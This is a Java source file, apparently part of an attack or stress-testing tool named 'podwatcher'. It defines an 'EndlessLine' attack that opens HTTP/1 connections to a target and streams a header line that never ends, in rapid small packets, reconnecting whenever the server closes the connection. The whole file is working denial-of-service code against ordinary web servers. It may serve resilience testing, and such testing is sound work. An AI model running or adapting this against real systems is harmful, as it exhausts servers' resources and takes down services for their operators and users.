package io.podwatcher.attack.client;

import io.netty.buffer.Unpooled;
import io.netty.channel.ChannelHandlerContext;
import io.netty.channel.ChannelInboundHandlerAdapter;
import io.podwatcher.attack.Attackers;
import java.nio.charset.StandardCharsets;
import java.util.Random;
import java.util.concurrent.TimeUnit;

/**
 * A head whose last line never ends: it is sent in small pieces, as fast as the connection takes them, and starts again
 * when the connection is closed.
 *
 * @param start what is sent before the pieces
 * @param piece what is sent again and again
 */
public record EndlessLine(String start, String piece) implements Attack {

    private static final int DIALS_PER_SECOND = 50;
    private static final int CONNECTIONS = 2;

    @Override
    public AutoCloseable start(Target target, Random random) throws Exception {
        Connections connections = Connections.http1(target);
        Attackers attackers = new Attackers();
        attackers.add(connections);
        attackers.add(Pacer.perSecond(DIALS_PER_SECOND, number -> {
            if (connections.open() < CONNECTIONS) {
                connections.connect(Target.attacker(number), true, new Trickle());
            }
        }));
        return attackers;
    }

    private final class Trickle extends ChannelInboundHandlerAdapter {

        @Override
        public void channelActive(ChannelHandlerContext context) {
            write(context, start);
            writeOn(context);
        }

        /** Each piece is a packet of its own. */
        private void writeOn(ChannelHandlerContext context) {
            for (int i = 0; i < 100 && context.channel().isWritable(); i++) {
                write(context, piece);
            }
            if (context.channel().isActive()) {
                context.executor().schedule(() -> writeOn(context), 1, TimeUnit.MILLISECONDS);
            }
        }

        private static void write(ChannelHandlerContext context, String text) {
            context.writeAndFlush(Unpooled.copiedBuffer(text, StandardCharsets.ISO_8859_1));
        }

        @Override
        public void exceptionCaught(ChannelHandlerContext context, Throwable reset) {
            context.close();
        }
    }
}
